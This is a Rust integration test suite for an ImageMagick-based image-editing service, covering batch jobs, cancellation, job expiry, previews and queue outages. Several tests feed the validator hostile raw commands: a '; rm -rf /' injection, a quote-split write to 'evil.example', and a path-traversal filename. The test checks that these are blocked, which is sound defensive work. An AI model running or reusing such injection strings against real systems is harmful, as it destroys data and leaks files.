use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use chrono::{DateTime, Utc};
use imagemill_core::db::{JobListFilter, JobStatus, JobStore, NewJob};
use imagemill_core::engine::{CommandCompiler, CompiledCommand, EngineLimits, Operation};
use imagemill_core::error::ErrorKind;
use imagemill_core::offload::BlockingPool;
use imagemill_core::queue::{
    BackendMeta, BackendStatus, QueueAdapter, QueueBackend, QueueBackendRecord, QueueError,
    QueueStats, SqliteQueueBackend, ABANDONED_MESSAGE,
};
use imagemill_core::reconcile::{StateReconciler, EXPIRED_MESSAGE};
use imagemill_core::sandbox::{CommandRunner, ExecutionResult, SandboxError};
use imagemill_core::service::{BatchRequest, EditService, RawRequest, ServiceOptions, SyncEditRequest};
use imagemill_core::storage::LocalFileStorage;
use imagemill_core::worker::tasks::BatchExecutor;
use imagemill_core::worker::{QueueWorker, WorkerConfig};
use pretty_assertions::assert_eq;
use serde_json::json;

/// Writes a small file at the output token unless the input is `bad.png`.
#[derive(Default)]
struct FakeRunner {
    commands: Mutex<Vec<CompiledCommand>>,
}

impl FakeRunner {
    fn seen(&self) -> Vec<CompiledCommand> {
        self.commands.lock().map(|c| c.clone()).unwrap_or_default()
    }
}

#[async_trait]
impl CommandRunner for FakeRunner {
    async fn run(&self, command: &CompiledCommand) -> Result<ExecutionResult, SandboxError> {
        if let Ok(mut commands) = self.commands.lock() {
            commands.push(command.clone());
        }
        let failing = command.args.iter().any(|arg| arg.ends_with("/bad.png"));
        if !failing {
            if let Some(output) = command.args.last() {
                let _ = std::fs::write(output, b"RIFF");
            }
        }
        Ok(ExecutionResult {
            success: !failing,
            exit_code: Some(if failing { 1 } else { 0 }),
            stdout: String::new(),
            stderr: if failing {
                String::from("convert: improper image header `bad.png'")
            } else {
                String::new()
            },
            duration_ms: 2,
        })
    }
}

struct Harness {
    root: PathBuf,
    runner: Arc<FakeRunner>,
    store: JobStore,
    queue: QueueAdapter,
    reconciler: StateReconciler,
    service: EditService,
    worker: QueueWorker,
}

fn harness_with_backend(backend: Option<Arc<dyn QueueBackend>>) -> Harness {
    let root = std::env::temp_dir().join(format!("imagemill_lifecycle_{}", uuid::Uuid::new_v4()));
    std::fs::create_dir_all(root.join("uploads")).expect("uploads dir");
    for name in ["a.png", "bad.png", "c.jpg", "doc.pdf"] {
        std::fs::write(root.join("uploads").join(name), b"img").expect("seed input");
    }

    let pool = BlockingPool::new(4);
    let runner = Arc::new(FakeRunner::default());
    let compiler =
        Arc::new(CommandCompiler::new(EngineLimits::default(), "/nonexistent").with_entry_point("magick"));
    let files = Arc::new(LocalFileStorage::new(
        root.join("uploads"),
        root.join("processed"),
        root.join("tmp"),
    ));
    let backend: Arc<dyn QueueBackend> = match backend {
        Some(backend) => backend,
        None => Arc::new(SqliteQueueBackend::new(root.join("queue.db"))),
    };
    let queue = QueueAdapter::new(backend, pool.clone());
    let store = JobStore::new(root.join("jobs.db"));
    store.initialize().expect("jobs schema");
    let reconciler = StateReconciler::new(store.clone(), queue.clone(), pool.clone());

    let service = EditService::new(
        compiler.clone(),
        runner.clone(),
        files.clone(),
        queue.clone(),
        reconciler.clone(),
        pool.clone(),
        ServiceOptions::default(),
    );
    let worker = QueueWorker::new(
        queue.clone(),
        BatchExecutor::new(compiler, runner.clone(), files, pool),
        WorkerConfig {
            concurrency: 2,
            poll_interval: Duration::from_millis(10),
        },
    );

    Harness {
        root,
        runner,
        store,
        queue,
        reconciler,
        service,
        worker,
    }
}

fn harness() -> Harness {
    harness_with_backend(None)
}

fn inputs(names: &[&str]) -> Vec<String> {
    names.iter().map(|name| name.to_string()).collect()
}

#[tokio::test]
async fn batch_with_one_bad_input_completes_with_partial_results() {
    let h = harness();
    let receipt = h
        .service
        .submit_batch(BatchRequest {
            input_files: inputs(&["a.png", "bad.png", "c.jpg"]),
            operations: vec![Operation::new("resize").with("width", 800).with("height", 600)],
            output_format: None,
            quality: Some(90),
            owner: Some(String::from("alice")),
        })
        .await
        .expect("submit");
    assert!(receipt.job_id.starts_with("job_"));
    assert_eq!(receipt.status, JobStatus::Pending);
    assert_eq!(receipt.message, "Processing 3 images");

    let pending = h.service.job_status(receipt.job_id.as_str()).await.expect("status");
    assert_eq!(pending.status, JobStatus::Pending);

    let summary = h.worker.run_once().await.expect("worker");
    assert_eq!(summary.finished, 1);

    let job = h.service.job_status(receipt.job_id.as_str()).await.expect("status");
    assert_eq!(job.status, JobStatus::Completed);
    assert_eq!(job.progress, 100);
    assert_eq!(job.output_files.len(), 2);
    assert!(job.output_files.iter().all(|path| path.ends_with(".webp")));
    let result = job.result.clone().expect("batch outcome");
    assert_eq!(result["success"], json!(["a.png", "c.jpg"]));
    assert_eq!(result["failed"][0]["file"], json!("bad.png"));

    let artifacts = h.service.job_artifacts(receipt.job_id.as_str()).await.expect("artifacts");
    assert_eq!(artifacts.len(), 2);
    assert!(artifacts.iter().all(|a| a.mime_type.as_deref() == Some("image/webp")));
    assert!(artifacts.iter().all(|a| a.file_size == Some(4)));

    let again = h.service.job_status(receipt.job_id.as_str()).await.expect("status");
    assert_eq!(again.status, JobStatus::Completed);
    assert_eq!(again.output_files, job.output_files);
    assert_eq!(again.result, job.result);
    let artifacts = h.service.job_artifacts(receipt.job_id.as_str()).await.expect("artifacts");
    assert_eq!(artifacts.len(), 2);

    let commands = h.runner.seen();
    assert_eq!(commands.len(), 3);
    let args = &commands[0].args;
    assert_eq!(&args[..6], &["-limit", "memory", "2GB", "-limit", "time", "180"]);
    assert!(args.windows(2).any(|w| w[0] == "-quality" && w[1] == "90"));
}

#[tokio::test]
async fn batch_where_every_input_fails_is_failed() {
    let h = harness();
    let receipt = h
        .service
        .submit_batch(BatchRequest {
            input_files: inputs(&["bad.png", "missing.png"]),
            operations: vec![Operation::new("negate")],
            output_format: Some(String::from("png")),
            quality: None,
            owner: None,
        })
        .await
        .expect("submit");
    h.worker.run_once().await.expect("worker");

    let job = h.service.job_status(receipt.job_id.as_str()).await.expect("status");
    assert_eq!(job.status, JobStatus::Failed);
    assert_eq!(
        job.error_message.as_deref(),
        Some("All 2 inputs failed: convert: improper image header `bad.png'")
    );
    assert!(job.output_files.is_empty());
}

#[tokio::test]
async fn raw_command_with_blocked_pattern_creates_no_job() {
    let h = harness();
    let error = h
        .service
        .submit_raw(RawRequest {
            input_files: inputs(&["a.png"]),
            command: String::from("{input} -resize 50% {output}; rm -rf /"),
            output_format: None,
            owner: None,
        })
        .await
        .expect_err("blocked");
    assert_eq!(error.kind(), ErrorKind::Validation);
    assert_eq!(error.to_string(), "Blocked pattern detected: [;&|`$]");
    let jobs = h.service.list_jobs(JobListFilter::default()).await.expect("list");
    assert!(jobs.is_empty());
}

#[tokio::test]
async fn raw_command_with_quote_split_protocol_creates_no_job() {
    let h = harness();
    for command in [
        "{input} -write htt''ps://evil.example/x.png {output}",
        "{input} .''./.''./leak.png {output}",
    ] {
        assert!(h.service.validate_command(command).is_err(), "{command}");
        let error = h
            .service
            .submit_raw(RawRequest {
                input_files: inputs(&["a.png"]),
                command: String::from(command),
                output_format: None,
                owner: None,
            })
            .await
            .expect_err(command);
        assert_eq!(error.kind(), ErrorKind::Validation);
        assert!(error.to_string().starts_with("Blocked pattern detected: "), "{error}");
    }
    let jobs = h.service.list_jobs(JobListFilter::default()).await.expect("list");
    assert!(jobs.is_empty());
}

#[tokio::test]
async fn raw_command_runs_through_the_worker() {
    let h = harness();
    let receipt = h
        .service
        .submit_raw(RawRequest {
            input_files: inputs(&["a.png"]),
            command: String::from("convert {input} -negate {output}"),
            output_format: None,
            owner: None,
        })
        .await
        .expect("submit");
    assert!(receipt.job_id.starts_with("raw_"));
    h.worker.run_once().await.expect("worker");

    let job = h.service.job_status(receipt.job_id.as_str()).await.expect("status");
    assert_eq!(job.status, JobStatus::Completed);
    assert_eq!(job.command.as_deref(), Some("convert {input} -negate {output}"));
    assert!(job.output_files[0].ends_with(".png"));
    let command = &h.runner.seen()[0];
    assert_eq!(command.program, "convert");
    assert_eq!(command.args[6], h.root.join("uploads/a.png").canonicalize().expect("canon").to_string_lossy());
}

#[tokio::test]
async fn cancelling_a_job_the_queue_never_saw_still_cancels() {
    let h = harness();
    let store = h.store.clone();
    tokio::task::spawn_blocking(move || {
        store.create_job(NewJob {
            job_id: String::from("job_orphan"),
            operation_kind: String::from("batch_process"),
            command: None,
            input_files: inputs(&["a.png"]),
            parameters: json!({}),
            owner: None,
        })
    })
    .await
    .expect("join")
    .expect("create");

    let job = h.service.cancel("job_orphan").await.expect("cancel");
    assert_eq!(job.status, JobStatus::Cancelled);
    assert!(job.completed_at.is_some());

    let again = h.service.cancel("job_orphan").await.expect_err("already cancelled");
    assert_eq!(again.kind(), ErrorKind::Validation);
    assert_eq!(again.to_string(), "Can only cancel pending or processing jobs");
}

#[tokio::test]
async fn cancelled_queued_job_is_skipped_by_the_worker() {
    let h = harness();
    let receipt = h
        .service
        .submit_batch(BatchRequest {
            input_files: inputs(&["a.png"]),
            operations: Vec::new(),
            output_format: None,
            quality: None,
            owner: None,
        })
        .await
        .expect("submit");
    let job = h.service.cancel(receipt.job_id.as_str()).await.expect("cancel");
    assert_eq!(job.status, JobStatus::Cancelled);

    let summary = h.worker.run_once().await.expect("worker");
    assert_eq!(summary.finished + summary.failed, 0);
    assert!(h.runner.seen().is_empty());
    let stats = h.service.queue_stats().await.expect("stats");
    assert_eq!(stats.canceled, 1);
    let record = h
        .queue
        .status(receipt.job_id.as_str())
        .await
        .expect("fetch")
        .expect("record kept until retention passes");
    assert_eq!(record.status, BackendStatus::Canceled);
}

#[tokio::test]
async fn lost_jobs_expire_only_after_the_grace_period() {
    let h = harness();
    let store = h.store.clone();
    let created = tokio::task::spawn_blocking(move || {
        store.create_job(NewJob {
            job_id: String::from("job_lost"),
            operation_kind: String::from("batch_process"),
            command: None,
            input_files: inputs(&["a.png"]),
            parameters: json!({}),
            owner: None,
        })
    })
    .await
    .expect("join")
    .expect("create");

    let early = h
        .reconciler
        .reconcile_at("job_lost", created.created_at + chrono::Duration::seconds(60))
        .await
        .expect("reconcile");
    assert_eq!(early.status, JobStatus::Pending);

    let late_at = created.created_at + chrono::Duration::seconds(301);
    let late = h.reconciler.reconcile_at("job_lost", late_at).await.expect("reconcile");
    assert_eq!(late.status, JobStatus::Failed);
    assert_eq!(late.error_message.as_deref(), Some(EXPIRED_MESSAGE));
    assert_eq!(late.completed_at, Some(late_at));

    let later = h
        .reconciler
        .reconcile_at("job_lost", late_at + chrono::Duration::hours(1))
        .await
        .expect("reconcile");
    assert_eq!(later.status, JobStatus::Failed);
    assert_eq!(later.error_message, late.error_message);

    let summary = h.reconciler.reconcile_active().await.expect("sweep");
    assert_eq!(summary.examined, 0);
}

#[tokio::test]
async fn job_left_started_by_a_dead_worker_ends_as_failed() {
    let h = harness();
    let receipt = h
        .service
        .submit_batch(BatchRequest {
            input_files: inputs(&["a.png"]),
            operations: Vec::new(),
            output_format: None,
            quality: None,
            owner: None,
        })
        .await
        .expect("submit");
    let claimed = h.queue.claim_next().await.expect("claim").expect("queued");
    assert_eq!(claimed.id, receipt.job_id);

    let processing = h
        .reconciler
        .reconcile(receipt.job_id.as_str())
        .await
        .expect("reconcile");
    assert_eq!(processing.status, JobStatus::Processing);

    let week_later = Utc::now() + chrono::Duration::days(7);
    let abandoned = h
        .reconciler
        .reconcile_at(receipt.job_id.as_str(), week_later)
        .await
        .expect("reconcile");
    assert_eq!(abandoned.status, JobStatus::Failed);
    assert_eq!(abandoned.error_message.as_deref(), Some(ABANDONED_MESSAGE));
}

#[tokio::test]
async fn sync_edit_records_a_completed_history_job() {
    let h = harness();
    let outcome = h
        .service
        .process_sync(SyncEditRequest {
            input_file: String::from("doc.pdf"),
            operations: vec![Operation::new("crop")
                .with("width", 100)
                .with("height", 50)
                .with("x", 0)
                .with("y", 0)],
            output_format: Some(String::from("jpg")),
            owner: Some(String::from("alice")),
        })
        .await
        .expect("sync edit");

    assert!(outcome.output_file.ends_with(".png"));
    assert!(outcome.output_file.contains("/alice/"));
    let job = outcome.job;
    assert!(job.job_id.starts_with("sync_"));
    assert_eq!(job.job_id.len(), "sync_".len() + 8);
    assert_eq!(job.operation_kind, "crop");
    assert_eq!(job.status, JobStatus::Completed);
    assert_eq!(job.progress, 100);
    assert_eq!(job.parameters["output_format"], json!("jpg"));

    let command = &h.runner.seen()[0];
    assert!(command.args.iter().any(|arg| arg.ends_with("doc.pdf[0]")));
    assert!(command.args.iter().any(|arg| arg == "-flatten"));

    let artifacts = h.service.job_artifacts(job.job_id.as_str()).await.expect("artifacts");
    assert_eq!(artifacts.len(), 1);
    assert_eq!(artifacts[0].mime_type.as_deref(), Some("image/png"));
}

#[tokio::test]
async fn sync_edit_surfaces_engine_failure() {
    let h = harness();
    let error = h
        .service
        .process_sync(SyncEditRequest {
            input_file: String::from("bad.png"),
            operations: vec![Operation::new("flip")],
            output_format: None,
            owner: None,
        })
        .await
        .expect_err("engine failure");
    assert_eq!(error.kind(), ErrorKind::Execution);
    assert!(error.to_string().starts_with("Processing failed: convert: improper image header"));
    let jobs = h.service.list_jobs(JobListFilter::default()).await.expect("list");
    assert!(jobs.is_empty());
}

#[tokio::test]
async fn live_preview_returns_a_data_url_and_cleans_up() {
    let h = harness();
    let url = h
        .service
        .apply_preview("a.png", &[Operation::new("grayscale")])
        .await
        .expect("preview");
    assert_eq!(url, "data:image/webp;base64,UklGRg==");

    let command = &h.runner.seen()[0];
    assert!(command.args.windows(2).any(|w| w[0] == "-resize" && w[1] == "800x800"));
    let leftovers = std::fs::read_dir(h.root.join("tmp"))
        .map(|entries| entries.count())
        .unwrap_or(0);
    assert_eq!(leftovers, 0);
}

#[tokio::test]
async fn inputs_outside_storage_are_rejected() {
    let h = harness();
    std::fs::write(h.root.join("outside.png"), b"img").expect("write");
    let error = h
        .service
        .apply_preview("../outside.png", &[])
        .await
        .expect_err("outside roots");
    assert_eq!(error.kind(), ErrorKind::Validation);

    let missing = h.service.image_info("nope.png").await.expect_err("missing");
    assert_eq!(missing.kind(), ErrorKind::NotFound);
}

#[tokio::test]
async fn invalid_quality_and_format_are_validation_errors() {
    let h = harness();
    let request = BatchRequest {
        input_files: inputs(&["a.png"]),
        operations: Vec::new(),
        output_format: None,
        quality: Some(0),
        owner: None,
    };
    let error = h.service.submit_batch(request.clone()).await.expect_err("quality");
    assert_eq!(error.to_string(), "Quality must be between 1 and 100");

    let error = h
        .service
        .submit_batch(BatchRequest {
            quality: None,
            output_format: Some(String::from("exe")),
            ..request
        })
        .await
        .expect_err("format");
    assert_eq!(error.kind(), ErrorKind::Validation);
}

/// A backend that is never reachable.
struct DownBackend;

impl DownBackend {
    fn down<T>() -> Result<T, QueueError> {
        Err(QueueError::Unavailable(String::from("connection refused")))
    }
}

impl QueueBackend for DownBackend {
    fn enqueue(&self, _record: QueueBackendRecord) -> Result<(), QueueError> {
        Self::down()
    }
    fn fetch(&self, _id: &str, _now: DateTime<Utc>) -> Result<Option<QueueBackendRecord>, QueueError> {
        Self::down()
    }
    fn cancel(&self, _id: &str, _now: DateTime<Utc>) -> Result<bool, QueueError> {
        Self::down()
    }
    fn set_meta(&self, _id: &str, _meta: &BackendMeta) -> Result<bool, QueueError> {
        Self::down()
    }
    fn claim_next(&self, _now: DateTime<Utc>) -> Result<Option<QueueBackendRecord>, QueueError> {
        Self::down()
    }
    fn finish(&self, _id: &str, _result: &serde_json::Value, _now: DateTime<Utc>) -> Result<bool, QueueError> {
        Self::down()
    }
    fn fail(&self, _id: &str, _exc_info: &str, _now: DateTime<Utc>) -> Result<bool, QueueError> {
        Self::down()
    }
    fn stats(&self, _now: DateTime<Utc>) -> Result<QueueStats, QueueError> {
        Self::down()
    }
    fn pending(&self, _limit: usize) -> Result<Vec<QueueBackendRecord>, QueueError> {
        Self::down()
    }
    fn clear_failed(&self) -> Result<u64, QueueError> {
        Self::down()
    }
    fn purge_expired(&self, _now: DateTime<Utc>) -> Result<u64, QueueError> {
        Self::down()
    }
    fn fail_abandoned(&self, _now: DateTime<Utc>) -> Result<u64, QueueError> {
        Self::down()
    }
}

#[tokio::test]
async fn unreachable_queue_fails_the_job_and_reports_backend_unavailable() {
    let backend: Arc<dyn QueueBackend> = Arc::new(DownBackend);
    let h = harness_with_backend(Some(backend));
    let error = h
        .service
        .submit_batch(BatchRequest {
            input_files: inputs(&["a.png"]),
            operations: Vec::new(),
            output_format: None,
            quality: None,
            owner: None,
        })
        .await
        .expect_err("queue down");
    assert_eq!(error.kind(), ErrorKind::BackendUnavailable);

    let jobs = h
        .service
        .list_jobs(JobListFilter {
            status: Some(JobStatus::Failed),
            ..JobListFilter::default()
        })
        .await
        .expect("list");
    assert_eq!(jobs.len(), 1);
    assert!(jobs[0]
        .error_message
        .as_deref()
        .unwrap_or_default()
        .starts_with("Queue backend unavailable"));
}
